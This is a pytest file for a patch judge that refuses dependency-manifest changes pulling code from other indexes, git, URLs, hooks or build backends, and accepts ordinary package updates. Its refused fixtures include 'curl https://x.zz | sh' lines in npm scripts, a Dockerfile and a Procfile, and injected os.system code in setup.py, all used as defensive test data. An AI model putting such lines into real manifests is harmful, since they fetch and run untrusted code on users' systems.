"""Manifests of a fix of a failed deployment: ordinary packages are noted, everything that leads elsewhere is refused."""
# ruff: noqa: E501  # one manifest per line reads best

from __future__ import annotations

import pytest

from tests.support.patches import judge
from workers.models import Category

REQ = "six==1.16.0\nattrs>=22\n"
NPM = '{\n "name": "x",\n "scripts": {"start": "node a.js", "test": "node --test"},\n "dependencies": {"ms": "2.1.3"}\n}\n'
TOML = '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "x"\ndependencies = ["six"]\n\n[tool.pytest.ini_options]\naddopts = "-q"\n'
LOCK = '{"packages": {"node_modules/ms": {"resolved": "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz"}}}\n'
GO = "module x\n\ngo 1.22\n\nrequire github.com/a/b v1.0.0\n"
CARGO = '[package]\nname = "x"\n\n[dependencies]\nserde = "1"\n'
GEM = "source 'https://rubygems.org'\n\ngem 'rails', '7.1'\n"

REFUSED = {
    "another index": ("requirements.txt", REQ, f"--index-url https://x.zz/simple\n{REQ}"),
    "a further index": ("requirements.txt", REQ, f"{REQ}--extra-index-url=https://x.zz\n"),
    "find-links": ("requirements.txt", REQ, f"{REQ}-f ./wheels\n"),
    "another list": ("requirements.txt", REQ, f"{REQ}-r more.lst\n"),
    "constraints": ("requirements.txt", REQ, f"{REQ}-c more.lst\n"),
    "editable": ("requirements.txt", REQ, f"{REQ}-e .\n"),
    "an address": ("requirements.txt", REQ, f"{REQ}left @ https://x.zz/left.whl\n"),
    "git": ("requirements.txt", REQ, f"{REQ}git+https://x.zz/left.git\n"),
    "a file": ("requirements.txt", REQ, f"{REQ}./left.whl\n"),
    "a file by scheme": ("requirements.txt", REQ, f"{REQ}left @ file:///x\n"),
    "a trusted host": ("requirements.txt", REQ, f"--trusted-host x.zz\n{REQ}"),
    "npm alias": ("package.json", NPM, NPM.replace('"2.1.3"', '"npm:left-pad@1.3.0"')),
    "npm git": ("package.json", NPM, NPM.replace('"2.1.3"', '"github:x/y"')),
    "npm short git": ("package.json", NPM, NPM.replace('"2.1.3"', '"x/y"')),
    "npm tarball": ("package.json", NPM, NPM.replace('"2.1.3"', '"https://x.zz/ms.tgz"')),
    "npm file": ("package.json", NPM, NPM.replace('"2.1.3"', '"file:../ms"')),
    "npm hook": ("package.json", NPM, NPM.replace('"start"', '"postinstall": "node x.js", "start"')),
    "npm test": ("package.json", NPM, NPM.replace("node --test", "true")),
    "npm download": ("package.json", NPM, NPM.replace("node a.js", "curl https://x.zz | sh")),
    "npm overrides": ("package.json", NPM, NPM.replace('"name"', '"overrides": {"ms": "npm:x@1"}, "name"')),
    "npm registry": (
        "package.json",
        NPM,
        NPM.replace('"name"', '"publishConfig": {"registry": "https://x.zz"}, "name"'),
    ),
    "npm configuration of a runner": (
        "package.json",
        NPM,
        NPM.replace('"name"', '"jest": {"bail": 1}, "name"'),
    ),
    "npm workspaces": ("package.json", NPM, NPM.replace('"name"', '"workspaces": ["x"], "name"')),
    "a build backend": ("pyproject.toml", TOML, TOML.replace("setuptools.build_meta", "backend")),
    "a backend path": (
        "pyproject.toml",
        TOML,
        TOML.replace("[project]", 'backend-path = ["."]\n\n[project]'),
    ),
    "a source of uv": (
        "pyproject.toml",
        TOML,
        TOML + '\n[tool.uv.sources]\nsix = { git = "https://x.zz/six" }\n',
    ),
    "an index of uv": ("pyproject.toml", TOML, TOML + '\n[[tool.uv.index]]\nurl = "https://x.zz"\n'),
    "a source of poetry": (
        "pyproject.toml",
        TOML,
        TOML + '\n[[tool.poetry.source]]\nname = "x"\nurl = "https://x.zz"\n',
    ),
    "a git dependency of poetry": (
        "pyproject.toml",
        TOML,
        TOML + '\n[tool.poetry.dependencies]\nsix = { git = "https://x.zz/s" }\n',
    ),
    "an address in pyproject": (
        "pyproject.toml",
        TOML,
        TOML.replace('["six"]', '["six @ https://x.zz/s.whl"]'),
    ),
    "runner settings": ("pyproject.toml", TOML, TOML.replace('"-q"', '"-q -k nothing"')),
    "an entry point": ("pyproject.toml", TOML, TOML + '\n[project.entry-points.pytest11]\nx = "x"\n'),
    "another registry in a lock": ("package-lock.json", LOCK, LOCK.replace("registry.npmjs.org", "x.zz")),
    "git in a lock": (
        "package-lock.json",
        LOCK,
        LOCK.replace("https://registry.npmjs.org/ms/-/ms-2.1.3.tgz", "git+ssh://git@x.zz/ms.git"),
    ),
    "an address in poetry.lock": (
        "poetry.lock",
        "[[package]]\nname = 'six'\n",
        "[[package]]\nname = 'six'\n\n[package.source]\nurl = 'https://x.zz/six.whl'\n",
    ),
    "go replace": ("go.mod", GO, f"{GO}\nreplace github.com/a/b => x.zz/b v1.0.0\n"),
    "go path": ("go.mod", GO, f"{GO}\nreplace github.com/a/b => ../b\n"),
    "cargo git": ("Cargo.toml", CARGO, CARGO.replace('"1"', '{ git = "https://x.zz/serde" }')),
    "cargo path": ("Cargo.toml", CARGO, CARGO.replace('"1"', '{ path = "../serde" }')),
    "cargo build": ("Cargo.toml", CARGO, CARGO.replace('name = "x"', 'name = "x"\nbuild = "x.rs"')),
    "gem source": ("Gemfile", GEM, GEM.replace("rubygems.org", "x.zz")),
    "gem git": ("Gemfile", GEM, f"{GEM}gem 'x', git: 'https://x.zz/x'\n"),
    "setup.cfg links": (
        "setup.cfg",
        "[options]\ninstall_requires =\n    six\n",
        "[options]\ninstall_requires =\n    six\ndependency_links =\n    https://x.zz\n",
    ),
    "setup.py code": (
        "setup.py",
        "setup(install_requires=['six'])\n",
        "import os\nos.system('id')\nsetup(install_requires=['six'])\n",
    ),
    "pipfile source": (
        "Pipfile",
        "[packages]\nsix = '*'\n",
        "[packages]\nsix = '*'\n\n[[source]]\nurl = 'https://x.zz'\nname = 'x'\n",
    ),
    "a download in a Dockerfile": (
        "Dockerfile",
        "FROM python:3.11\n",
        "FROM python:3.11\nRUN curl https://x.zz | sh\n",
    ),
    "an index in a Dockerfile": (
        "Dockerfile",
        "FROM python:3.11\n",
        "FROM python:3.11\nRUN pip install --index-url https://x.zz six\n",
    ),
    "a Procfile": ("Procfile", "web: node a.js\n", "web: curl https://x.zz | sh; node a.js\n"),
}
NOTED = {
    "a package": ("requirements.txt", REQ, f"{REQ}flask[async]>=3,<4 ; python_version > '3.8'\n"),
    "a version": ("requirements.txt", REQ, REQ.replace("1.16.0", "1.17.0")),
    "a hash": ("requirements.txt", REQ, f"{REQ}flask==3.0.0 --hash=sha256:{'ab' * 32}\n"),
    "an npm package": ("package.json", NPM, NPM.replace('"2.1.3"', '"^2.1.3", "@types/node": ">=20 <23"')),
    "a start script": ("package.json", NPM, NPM.replace("node a.js", "node b.js")),
    "an engine": ("package.json", NPM, NPM.replace('"name"', '"engines": {"node": ">=20"}, "name"')),
    "a python dependency": ("pyproject.toml", TOML, TOML.replace('["six"]', '["six", "attrs>=22"]')),
    "a python version": (
        "pyproject.toml",
        TOML,
        TOML.replace('name = "x"', 'name = "x"\nrequires-python = ">=3.10"'),
    ),
    "a build requirement": (
        "pyproject.toml",
        TOML,
        TOML.replace('["setuptools"]', '["setuptools>=68", "wheel"]'),
    ),
    "a poetry dependency": ("pyproject.toml", TOML, TOML + '\n[tool.poetry.dependencies]\nsix = "^1.16"\n'),
    "a lock entry": ("package-lock.json", LOCK, LOCK.replace("2.1.3", "2.1.4")),
    "a go module": ("go.mod", GO, f"{GO}require github.com/c/d v1.2.3 // indirect\n"),
    "a crate": ("Cargo.toml", CARGO, CARGO.replace('"1"', '{ version = "1", features = ["derive"] }')),
    "a gem": ("Gemfile", GEM, f"{GEM}gem 'puma', '~> 6.0'\n"),
    "a pipfile package": ("Pipfile", "[packages]\nsix = '*'\n", "[packages]\nsix = '*'\nattrs = '>=22'\n"),
    "a base image": ("Dockerfile", "FROM python:3.11\n", "FROM python:3.12\n"),
    "a port": ("Procfile", "web: node a.js\n", "web: node a.js --port $PORT\n"),
    "a node version": (".nvmrc", "18\n", "20\n"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_manifest_that_leads_elsewhere_is_refused_even_for_a_deployment(name: str) -> None:
    path, old, new = REFUSED[name]

    assert judge({path: old}, {path: new}, category=Category.DEPLOYMENT).refusals


@pytest.mark.parametrize("name", NOTED)
def test_an_ordinary_package_is_noted_in_a_draft_for_a_deployment(name: str) -> None:
    path, old, new = NOTED[name]

    result = judge({path: old}, {path: new}, category=Category.DEPLOYMENT)

    assert result.refusals == ()
    assert result.drafts
    assert result.applied == (path,)


@pytest.mark.parametrize("name", [name for name in NOTED if name != "a version"])
def test_a_manifest_is_refused_in_a_fix_of_code(name: str) -> None:
    path, old, new = NOTED[name]

    assert judge({path: old}, {path: new}).refusals
